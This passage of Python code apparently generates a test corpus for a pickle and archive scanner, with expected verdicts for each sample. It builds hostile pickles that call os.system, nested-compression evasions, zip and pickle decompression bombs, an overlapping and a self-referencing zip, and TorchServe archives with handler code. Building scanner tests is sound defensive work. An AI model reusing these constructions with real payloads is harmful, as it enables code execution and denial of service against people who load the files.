    def deep_gzip(payload):
        octets = call(payload)
        for _ in range(20):
            octets = gzip.compress(octets, mtime=0)
        return octets

    add("deep-gzip", deep_gzip, "not-clean", "a hostile pickle under twenty layers of gzip", "gzip", "gz")

    def alternating(payload):
        octets = call(payload)
        for layer in range(6):
            octets = [gzip.compress, bz2.compress, lzma.compress][layer % 3](octets)
        return octets

    add("six-layers", alternating, "malicious", "a hostile pickle under six layers of three kinds: within the limit", "xz", "bin")


def npy_object(payload):
    header = "{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
    header += " " * (-(len(header) + 11) % 64) + "\n"
    return b"\x93NUMPY\1\0" + struct.pack("<H", len(header)) + header.encode() + call(payload, 3)


def bombs(corpus):
    def add(name, octets, expected, form, what):
        corpus.hostile(name, octets, expected, form, what)

    zeros = bytes(12 << 20)
    add("bomb-ratio.zip", write_zip([Entry(b"zeros.bin", zeros, 8)]), "not-clean", "zip", "twelve megabytes of zeros, a thousand times smaller")
    add("bomb-ratio.pkl.gz", gzip.compress(zeros, mtime=0), "not-clean", "gzip", "the same in gzip")
    add("bomb-members.zip", write_zip([Entry(b"%d" % n) for n in range(4000)] + [Entry(b"m.pkl", call_inert())]), "malicious", "zip", "four thousand empty members, and a hostile pickle at the end")
    add("bomb-memo.pkl", proto(4) + b"]" + b"".join(b"r" + struct.pack("<I", 0xFFFFFFFF - n) for n in range(500)) + b"0" + encode(Call(G("os", "system"), "true"), 4) + b".", "malicious", "pickle", "five hundred memo slots at the far end")
    add("bomb-doubling.pkl", doubling() + encode(Call(G("os", "system"), "true"), 2) + b".", "malicious", "pickle", "a list that doubles sixty times by the memo, then a hostile call")
    add("bomb-strings.pkl", proto(4) + b"\x8e" + struct.pack("<Q", 2**62) + b"x", "not-clean", "*", "a string of 2^62 octets is claimed")
    add("bomb-long.pkl", proto(2) + b"\x8b" + struct.pack("<i", 2**31 - 1) + b"\1", "not-clean", "*", "an integer of 2 GiB is claimed")
    add("bomb-marks.pkl", proto(2) + b"(" * 30000 + encode(Call(G("os", "system"), "true"), 2) + b"l" * 30000 + b".", "malicious", "pickle", "thirty thousand marks around a hostile call")
    add("bomb-tuples.pkl", proto(2) + encode(Call(G("os", "system"), "true"), 2) + b"\x85" * 30000 + b".", "malicious", "pickle", "a hostile call in thirty thousand tuples")
    # One kernel of deflate that is listed many times: each entry overlaps all others.
    kernel = Entry(b"0.bin", bytes(1 << 20), 8)
    add("bomb-overlap.zip", write_zip([kernel] + [Entry(b"%d.bin" % n, bytes(1 << 20), 8, has_local=False, offset=0) for n in range(1, 40)]), "malicious", "zip", "forty entries share one compressed megabyte")
    add("quine-like.zip", quine_like(), "malicious", "zip", "a member that is the archive itself, as far as the directory goes")


def doubling():
    # L0 = [], then each list holds the one before it twice.
    out = proto(2) + b"]q\0"
    for n in range(60):
        out += b"0](" + b"h" + bytes([n]) + b"h" + bytes([n]) + b"e" + b"q" + bytes([n + 1])
    return out + b"0"


def quine_like():
    # The entry's local header is at 0, and its stored octets run to the end record: they hold the directory that lists it.
    name = b"self.zip"
    directory_size = 46 + len(name)
    size = directory_size + 22
    head = struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, 0, 0, 33, 0, size, size, len(name), 0) + name
    directory = struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, 0, 0, 33, 0, size, size, len(name), 0, 0, 0, 0, 0, 0) + name
    end = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, 1, 1, directory_size, len(head), 0)
    return head + directory + end


def serving(corpus):
    manifest = b'{"model": {"modelName": "m", "serializedFile": "model.pt", "handler": "handler.py"}}'
    corpus.hostile("serve-handler.mar", write_zip([Entry(b"MAR-INF/MANIFEST.json", manifest), Entry(b"handler.py", b"import os\nos.system('true')\n")]), "suspicious", "zip", "a TorchServe archive with a handler")
    corpus.hostile("serve-model.mar", lambda p: write_zip([Entry(b"MAR-INF/MANIFEST.json", manifest), Entry(b"model.pt", write_zip(torch_members(call(p))))]), "malicious", "zip", "a TorchServe archive whose model is hostile")
    corpus.hostile("serve-wheel.whl", write_zip([Entry(b"m/__init__.py", b"import os\n"), Entry(b"m-1.dist-info/METADATA", b"Name: m\n")]), "suspicious", "zip", "a Python package")
